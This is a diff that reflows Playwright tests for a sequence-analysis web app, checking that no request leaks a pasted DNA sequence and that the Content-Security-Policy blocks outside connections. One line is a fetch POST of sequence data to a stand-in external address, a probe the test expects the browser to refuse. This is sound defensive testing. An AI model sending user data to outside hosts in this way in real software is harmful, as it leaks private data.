@@ -7,7 +7,10 @@ import { openAndAnalyse, startMutagenesis, waitForModel } from './helpers';
 // a made-up sequence, so a match in any request can only come from the paste
 const SECRET = 'ACGTTGCAAGGCTTAACCGGTATCGATCGGATCCATGCAAGTCTTGACGGTACCATGGCAAT'.repeat(4);
 
-test('a whole session makes only same-origin static requests, none containing the sequence', async ({ page, baseURL }) => {
+test('a whole session makes only same-origin static requests, none containing the sequence', async ({
+  page,
+  baseURL,
+}) => {
   const requests: { url: string; method: string; body: string }[] = [];
   page.on('request', (r) => requests.push({ url: r.url(), method: r.method(), body: r.postData() ?? '' }));
   await page.goto('./');
@@ -39,20 +42,36 @@ test('no serious or critical accessibility violations on the analysed page', asy
   expect(bad.map((v) => `${v.id}: ${v.help} (${v.nodes.length})`)).toEqual([]);
 });
 
-test('the Content-Security-Policy (header and meta tag) keeps scripts, workers and connections on this origin', async ({ page }) => {
+test('the Content-Security-Policy (header and meta tag) keeps scripts, workers and connections on this origin', async ({
+  page,
+}) => {
   const response = await page.goto('./');
   const header = response!.headers()['content-security-policy']!;
   const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
   expect(header).toBe(meta);
-  for (const directive of ["default-src 'self'", "connect-src 'self'", "worker-src 'self' blob:", "script-src 'self' blob: 'wasm-unsafe-eval'"]) {
+  for (const directive of [
+    "default-src 'self'",
+    "connect-src 'self'",
+    "worker-src 'self' blob:",
+    "script-src 'self' blob: 'wasm-unsafe-eval'",
+  ]) {
     expect(header).toContain(directive);
   }
   expect(header).not.toMatch(/https?:|\*/); // no other host, no wildcard
   // and the browser enforces it: a connection elsewhere is refused before it leaves the page
-  const violation = await page.evaluate(() => new Promise<string>((resolve) => {
-    type Doc = { addEventListener: (type: string, f: (e: { violatedDirective: string }) => void, o: object) => void };
-    (globalThis as unknown as { document: Doc }).document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true });
-    fetch('http://192.0.2.1/collect', { method: 'POST', body: 'ACGT' }).catch(() => undefined);
-  }));
+  const violation = await page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        type Doc = {
+          addEventListener: (type: string, f: (e: { violatedDirective: string }) => void, o: object) => void;
+        };
+        (globalThis as unknown as { document: Doc }).document.addEventListener(
+          'securitypolicyviolation',
+          (e) => resolve(e.violatedDirective),
+          { once: true },
+        );
+        fetch('http://192.0.2.1/collect', { method: 'POST', body: 'ACGT' }).catch(() => undefined);
+      }),
+  );
   expect(violation).toBe('connect-src');
 });
